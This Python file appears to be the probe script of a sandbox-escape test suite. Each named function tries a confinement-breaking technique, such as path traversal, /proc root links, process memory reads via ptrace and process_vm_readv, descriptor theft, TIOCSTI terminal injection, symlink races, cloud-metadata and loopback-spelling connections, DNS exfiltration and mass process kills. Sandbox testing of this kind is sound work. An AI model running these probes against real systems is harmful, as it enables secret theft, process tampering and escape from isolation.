# SPDX-License-Identifier: Apache-2.0
"""Attacks by name: `python3 probes.py NAME...`. Each does what it can with what world.json says was planted, prints
what it read, and says "REACHED WORD" where nothing is to be read. All are quiet about what is refused."""
import contextlib
import ctypes
import json
import mmap
import os
import platform
import resource
import signal
import socket
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "world.json"), encoding="utf-8") as file:
    W = json.load(file)
LIBC = ctypes.CDLL(None, use_errno=True)
MANY = {"x86_64": 0, "aarch64": 1}.get(platform.machine(), 1)
# Numbers of x86-64 and of the common table.
CALLS = {
    "ptrace": (101, 117), "process_vm_readv": (310, 270), "pidfd_open": (434, 434), "pidfd_getfd": (438, 438),
    "ioprio_set": (251, 30), "keyctl": (250, 219), "bpf": (321, 280), "perf_event_open": (298, 241),
    "userfaultfd": (323, 282), "renameat2": (316, 276), "inotify_init1": (294, 26), "inotify_add_watch": (254, 27),
    "fanotify_init": (300, 262), "open_by_handle_at": (304, 265), "personality": (135, 92), "shmget": (29, 194),
    "shmat": (30, 196), "semctl": (66, 191), "semget": (64, 190), "msgget": (68, 186), "msgrcv": (70, 188),
    "mq_open": (240, 180), "mq_timedreceive": (243, 183), "mount_setattr": (442, 442), "add_key": (248, 217),
}


def call(name, *words):
    LIBC.syscall.restype = ctypes.c_long
    return LIBC.syscall(CALLS[name][MANY], *[ctypes.c_long(w) if isinstance(w, int) else w for w in words])


def reached(what):
    print("REACHED", what, flush=True)


def show(data):
    print(data.decode("utf-8", "replace") if isinstance(data, bytes) else data, flush=True)


def quiet(function, *words, **more):
    with contextlib.suppress(OSError, ValueError, AttributeError, MemoryError):
        return function(*words, **more)
    return None


def cat(path):
    with open(path, "rb") as file:
        show(file.read(4096))


# ---- files ----

def paths():
    """Ways of writing a path that a check of texts could take for one inside."""
    up = "../" * 24
    out = W["outside"]
    for path in (f"{out}/secret", f"{up}{out[1:]}/secret", f"./{up}/{out[1:]}/./secret", f"//{out}//secret",
                 f"cases/..//../{up}{out}/secret", f"%2e%2e%2f{out}/secret", f"{out}/secret\0.txt", f"{out}/secret."):
        quiet(cat, path)
    for path in (f"{out}/escaped", f"{up}{out[1:]}/escaped", f"./..//{up}{out[1:]}//escaped.", f"{out}/%65scaped"):
        quiet(lambda p: open(p, "w", encoding="utf-8").close(), path)


def magic():
    """Links of /proc that lead out of whatever root one has."""
    for start in ("/proc/self/root", "/proc/self/cwd/" + "../" * 24, "/proc/1/root", "/proc/1/cwd",
                  f"/proc/{W['victim']}/root", f"/proc/{os.getppid()}/root", f"/proc/{os.getppid()}/cwd/" + "../" * 24):
        quiet(cat, start + W["outside"] + "/secret")
    for pid in (1, os.getppid(), W["victim"], *range(2, 12)):
        for number in range(24):
            quiet(cat, f"/proc/{pid}/fd/{number}") if pid != os.getpid() and number > 2 else None


def reopen():
    """Descriptors opened once more by their names: for reading what was for writing, and the other way."""
    for folder in ("/proc/self/fd", "/dev/fd"):
        for number in range(3, 64):
            for flags in (os.O_RDONLY, os.O_WRONLY | os.O_APPEND):
                fd = quiet(os.open, f"{folder}/{number}", flags | os.O_NONBLOCK)
                if fd is None:
                    continue
                data = quiet(os.read, fd, 4096) if flags == os.O_RDONLY else quiet(os.write, fd, b"escaped\n")
                if isinstance(data, bytes):
                    show(data)
                os.close(fd)


def descriptors():
    """What the host left open: files, sockets, and descriptors that wait in a socket."""
    for number in range(3, 1024):
        data = quiet(os.pread, number, 4096, 0)
        if data:
            show(data)
        quiet(os.write, number, b"escaped\n")
        found = quiet(lambda n: socket.socket(fileno=os.dup(n)), number)
        if not found:
            continue
        found.setblocking(False)
        got = quiet(socket.recv_fds, found, 100, 4)
        for fd in got[1] if got else []:
            show(os.pread(fd, 4096, 0))


def handle():
    """A file by its handle, which needs no path to lead to it."""
    kind, data = W["handle_type"], bytes.fromhex(W["handle"])
    raw = ctypes.create_string_buffer(struct.pack("Ii", len(data), kind) + data)
    for start in ("/", "/work", ".", "/tmp", W["outside"]):
        mount = quiet(os.open, start, os.O_RDONLY | os.O_DIRECTORY)
        fd = call("open_by_handle_at", mount, raw, os.O_RDONLY) if mount is not None else -1
        if fd >= 0:
            show(os.read(fd, 4096))


def attributes():
    """Mode, owner, times, attributes, length of a file outside."""
    for path in (W["outside"] + "/kept", W["outside"]):
        quiet(os.chmod, path, 0o777)
        quiet(os.chown, path, os.getuid(), os.getgid())
        quiet(os.utime, path, (1, 1))
        quiet(os.setxattr, path, "user.escaped", b"1")
        quiet(os.utime, path, (1, 1), follow_symlinks=False)
    fd = quiet(os.open, W["outside"] + "/kept", os.O_RDONLY)
    if fd is not None:
        quiet(os.fchmod, fd, 0o777)
        quiet(os.utime, fd, (1, 1))
        quiet(os.setxattr, fd, "user.escaped", b"1")


def truncate():
    quiet(os.truncate, W["outside"] + "/kept", 0)
    quiet(lambda: os.close(os.open(W["outside"] + "/kept", os.O_WRONLY | os.O_TRUNC)))


def exchange():
    """A file of ours over one outside, and the two swapped."""
    with open("mine", "w", encoding="utf-8") as file:
        file.write("escaped")
    quiet(os.rename, "mine", W["outside"] + "/kept")
    quiet(os.link, W["outside"] + "/kept", "theirs")
    call("renameat2", -100, b"mine", -100, (W["outside"] + "/kept").encode(), 2)
    quiet(os.rename, W["outside"] + "/kept", "taken")


def names():
    """Names of files, and what can be known of one whose name is known."""
    for start in (W["outside"], os.path.dirname(W["outside"]), "/proc/self/root" + W["outside"]):
        for found in quiet(os.listdir, start) or []:
            show(found)
    stat = quiet(os.stat, W["outside"] + "/kept")
    if stat and stat.st_size == W["kept_size"]:
        reached("stat")


def watch():
    """Names of what others make in a folder, by inotify and fanotify."""
    fd = call("inotify_init1", os.O_NONBLOCK)
    if fd >= 0 and call("inotify_add_watch", fd, (W["outside"] + "/spied").encode(), 0xfff) >= 0:
        end = time.monotonic() + 20
        while time.monotonic() < end:
            data = quiet(os.read, fd, 4096)
            if data:
                show(data)
                break
            time.sleep(0.02)
    if call("fanotify_init", 0, 0) >= 0:
        reached("fanotify")


def race():
    """A name that is now a file of ours, now a link to one outside, as fast as can be."""
    kind, end = sys.argv[2], time.monotonic() + 6
    target = W["outside"] if kind == "folder" else W["outside"] + "/kept"
    os.makedirs("here", exist_ok=True)
    while time.monotonic() < end and not os.path.exists("stop"):
        with contextlib.suppress(OSError):
            os.symlink(target, "new")
            os.rename("new", "swapped") if kind == "file" else call("renameat2", -100, b"new", -100, b"swapped", 2)
            if kind == "file":
                with open("new", "w", encoding="utf-8") as file:
                    file.write("x")
                os.rename("new", "swapped")
            else:
                call("renameat2", -100, b"new", -100, b"swapped", 2)
                os.unlink("new")
        with contextlib.suppress(OSError):
            os.unlink("new")


# ---- processes ----

def memory():
    """The memory and the descriptors of a process of the same user."""
    pid, at = W["victim"], W["memory_address"]
    buffer = ctypes.create_string_buffer(64)
    vector = struct.pack("PN", ctypes.addressof(buffer), 64)
    remote = struct.pack("PN", at, 64)
    if call("process_vm_readv", pid, vector, 1, remote, 1, 0) > 0:
        show(buffer.raw)
    pidfd = call("pidfd_open", pid, 0)
    fd = call("pidfd_getfd", pidfd, W["victim_fd"], 0) if pidfd >= 0 else -1
    if fd >= 0:
        show(os.pread(fd, 4096, 0))
    if call("ptrace", 0x4206, pid, 0, 0) == 0:  # seize
        reached("ptrace")
        call("ptrace", 17, pid, 0, 0)
    with contextlib.suppress(OSError):
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        show(os.pread(fd, 64, at))


def proc():
    for pid in (W["victim"], 1, os.getppid()):
        for name in ("environ", "cmdline", "maps", "comm"):
            quiet(cat, f"/proc/{pid}/{name}")


def signals():
    """At the victim, at its group, at whoever reaps here, at everybody."""
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        quiet(os.kill, W["victim"], number)
        quiet(os.killpg, W["victim"], number)
    pidfd = call("pidfd_open", W["victim"], 0)
    if pidfd >= 0:
        quiet(signal.pidfd_send_signal, pidfd, signal.SIGKILL)
    quiet(os.kill, 1, signal.SIGKILL)
    for pid in {*range(2, 40)} - {os.getpid(), os.getppid(),
                                  os.getpgid(0)}:  # small numbers are others of ours, or the system's
        quiet(os.kill, pid, signal.SIGSTOP) if os.path.exists("/work") else None


def everybody():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    quiet(os.kill, -1, signal.SIGTERM)
    quiet(os.kill, -1, signal.SIGKILL)


def priorities():
    pid = W["victim"]
    quiet(resource.prlimit, pid, resource.RLIMIT_NOFILE, (11, 11))
    quiet(os.setpriority, os.PRIO_PROCESS, pid, 19)
    quiet(os.sched_setaffinity, pid, {0})
    call("ioprio_set", 1, pid, 3 << 13)


def keys():
    """The user's keyring, and doors of the kernel that no build needs."""
    buffer = ctypes.create_string_buffer(128)
    if W["key"] and call("keyctl", 11, W["key"], buffer, 128, 0) > 0:
        show(buffer.raw)
    if call("add_key", b"user", b"escaped", b"x", 1, -3) > 0:
        reached("add_key")
    attr = struct.pack("IIII", 2, 4, 4, 1) + bytes(56)
    if call("bpf", 0, attr, len(attr)) >= 0:
        reached("bpf")
    attr = struct.pack("II", 1, 112) + bytes(104)
    if call("perf_event_open", attr, 0, -1, -1, 0) >= 0:
        reached("perf")
    if call("userfaultfd", 1) >= 0:
        reached("userfaultfd")


def terminal():
    """Words put into whoever's terminal this is."""
    import fcntl  # pylint: disable=import-outside-toplevel
    fds = [0, 1, 2] + [fd for fd in (quiet(os.open, "/dev/tty", os.O_RDWR),) if fd is not None]
    if len(fds) > 3:
        reached("tty")
    for fd in fds:
        for letter in b"escaped\n":
            quiet(fcntl.ioctl, fd, 0x5412, bytes([letter]))
        quiet(fcntl.ioctl, fd, 0x541C, b"\x03")


def ipc():
    """Memory, messages and semaphores that belong to the machine and not to the file system."""
    at = call("shmat", W["shm"], 0, 0o10000)
    if at not in (-1, 0):
        show(ctypes.string_at(at, 64))
    buffer = ctypes.create_string_buffer(200)
    if call("msgrcv", W["msg"], buffer, 100, 0, 0o4000) > 0:
        show(buffer.raw[8:])
        quiet(lambda: call("msgget", 0, 0))
    if call("semctl", W["sem"], 0, 16, 99) == 0:
        reached("semaphore")
    queue = call("mq_open", b"viv-attacks-" + str(W["victim"]).encode(), os.O_RDONLY | os.O_NONBLOCK, 0, 0)
    buffer = ctypes.create_string_buffer(8192)
    if queue >= 0 and call("mq_timedreceive", queue, buffer, 8192, 0, 0) > 0:
        show(buffer.raw[:64])


def randomize():
    if call("personality", 0x0040000) >= 0:
        reached("personality")


def privileges():
    """What a set-uid program could gain here."""
    with contextlib.suppress(OSError):
        with open("/proc/self/status", encoding="utf-8") as file:
            text = file.read()
        if "NoNewPrivs:\t0" in text:
            reached("new-privileges")
        if "CapEff:\t0000000000000000" not in text:
            reached("capabilities")
    if LIBC.prctl(39, 0, 0, 0, 0) == 0:
        reached("new-privileges")
    with open("suid", "w", encoding="utf-8") as file:
        file.write("#!/bin/sh\n")
    quiet(os.chmod, "suid", 0o4755)
    if os.stat("suid").st_mode & 0o4000:
        reached("set-uid")
    os.unlink("suid")


def own_code():
    """Code of one's own runs by one way or another; what counts is what it then reaches."""
    text = b"#!/bin/sh\ncat " + W["outside"].encode() + b"/secret; echo REACHED memfd\n"
    fd = quiet(os.memfd_create, "x", 0)
    if fd is not None:
        os.write(fd, text)
        if os.fork() == 0:
            with contextlib.suppress(OSError):
                os.execve(f"/proc/self/fd/{fd}", ["x"], {"PATH": "/usr/bin:/bin"})
            with contextlib.suppress(OSError):
                os.execve(fd, ["x"], {"PATH": "/usr/bin:/bin"})
            os._exit(1)
        os.wait()
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xc3")


def core():
    if resource.getrlimit(resource.RLIMIT_CORE)[1] != 0:
        reached("core")
    quiet(resource.setrlimit, resource.RLIMIT_CORE, (1 << 30, 1 << 30))
    if os.fork() == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
    os.wait()
    for name in quiet(os.listdir, ".") or []:
        if name.startswith("core"):
            reached("core")


def settings():
    """Opened for writing and left as they are."""
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
                 "/proc/sys/vm/drop_caches", "/proc/1/oom_score_adj", "/sys/kernel/mm/transparent_hugepage/enabled",
                 "/sys/power/state", "/sys/fs/cgroup/cgroup.procs", "/proc/self/oom_score_adj"):
        fd = quiet(os.open, path, os.O_WRONLY)
        if fd is not None:
            os.close(fd)
            reached("settings")


def environment():
    for name, value in os.environ.items():
        show(f"{name}={value}")
    for path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
        quiet(cat, path)


# ---- sockets ----

def talk(family, kind, address, flags=0, seconds=20):
    """To somebody of this machine, who answers at once or, when the machine is busy, later."""
    with contextlib.suppress(OSError, ValueError, OverflowError):
        with socket.socket(family, kind) as sock:
            sock.settimeout(seconds)
            if flags:
                sock.sendto(b"escaped\n", flags, address)
            else:
                sock.connect(address)
                with contextlib.suppress(OSError):  # who has answered and gone has still answered
                    sock.send(b"escaped\n")
            if kind == socket.SOCK_STREAM:
                show(sock.recv(4096))


def unix_sockets():
    talk(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + W["abstract"])
    for path in (W["outside"] + "/sock", *W["sockets"]):
        talk(socket.AF_UNIX, socket.SOCK_STREAM, path)


def tcp():
    talk(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", W["tcp4"]))
    talk(socket.AF_INET6, socket.SOCK_STREAM, ("::1", W["tcp6"]))


def forms():
    """The same addresses in clothes: mapped, translated, 6to4, Teredo, NAT64."""
    for host in ("::ffff:127.0.0.1", "::127.0.0.1", "::ffff:0:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::",
                 "2001:0:7f00:1::80ff:fffe", "fe80::1%lo", "::"):
        seconds = 20 if "ffff:127" in host else 1  # to the others nobody may answer
        talk(socket.AF_INET6, socket.SOCK_STREAM, (host, W["tcp4"]), seconds=seconds)
        talk(socket.AF_INET6, socket.SOCK_STREAM, (host, W["tcp6"]), seconds=1)


def spellings():
    """Names that a resolver reads as the loopback address."""
    for host in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0x7f.1", "127.0.1", "0", "localhost", "LOCALHOST",
                 "localhost.", "127.255.255.254"):
        for found in quiet(socket.getaddrinfo, host, W["tcp4"], 0, socket.SOCK_STREAM) or []:
            talk(found[0], socket.SOCK_STREAM, found[4][:2])


def metadata():
    seconds = 1 if W["meta"] == 9 else 20  # nobody may be there
    for host in ("169.254.169.254", "100.100.100.200"):
        talk(socket.AF_INET, socket.SOCK_STREAM, (host, W["meta"]), seconds=seconds)
    talk(socket.AF_INET, socket.SOCK_STREAM, ("168.63.129.16", W["meta"]), seconds=1)
    talk(socket.AF_INET6, socket.SOCK_STREAM, ("fd00:ec2::254", W["tcp6"]), seconds=1)


def lookups():
    """What is carried out in the name that is looked up."""
    name = "escaped-by-name.example"
    quiet(socket.getaddrinfo, name, 80)
    for query in (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0fescaped-by-hand\x07example\x00\x00\x01\x00\x01",):
        for port in (53, W["udp4"]):
            with contextlib.suppress(OSError):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    sock.sendto(query, ("127.0.0.1", port))


def datagrams():
    for family, host, port in ((socket.AF_INET, "127.0.0.1", W["udp4"]), (socket.AF_INET6, "::1", W["udp6"])):
        with contextlib.suppress(OSError):
            with socket.socket(family, socket.SOCK_DGRAM) as sock:
                sock.sendto(b"escaped\n", (host, port))
    for family, kind, protocol, word in ((socket.AF_INET, socket.SOCK_DGRAM, 1, "icmp"),
                                         (socket.AF_INET, socket.SOCK_RAW, 1, "raw"), (17, socket.SOCK_RAW, 3,
                                             "packet"),
                                         (16, socket.SOCK_RAW, 0, "netlink"), (40, socket.SOCK_STREAM, 0, "vsock"),
                                         (38, socket.SOCK_SEQPACKET, 0, "alg"),
                                         (socket.AF_INET, socket.SOCK_SEQPACKET, 132, "sctp")):
        with contextlib.suppress(OSError):
            socket.socket(family, kind, protocol).close()
            reached(word)


def fast_open():
    """A connection that is made by sending, where a rule looks at connecting."""
    talk(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", W["tcp4"]), flags=0x20000000)
    talk(socket.AF_INET6, socket.SOCK_STREAM, ("::1", W["tcp6"]), flags=0x20000000)


def listen():
    """A door for somebody of the network."""
    with contextlib.suppress(OSError):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.bind(("0.0.0.0", W["free_port"]))
            sock.listen(1)
            sock.settimeout(8)  # the neighbour knocks ten times in a second
            peer, _ = sock.accept()
            reached("peer")
            show(peer.recv(200))


def daemon():
    """Something that outlives the task."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(3):
                os.close(fd)
            os.execv("/bin/sleep", ["/bin/sleep", W["sleep"]])
        os._exit(0)
    os.wait()


def files_open():
    count = 0
    while count < 5000 and quiet(os.open, "/dev/null", os.O_RDONLY) is not None:
        count += 1
    print("files", count)
    if count >= 5000:
        reached("files-open")


PROBES = {name: thing for name, thing in globals().items() if callable(thing) and getattr(thing, "__module__",
    "") == "__main__"}

if __name__ == "__main__":
    PROBES[sys.argv[1]]()
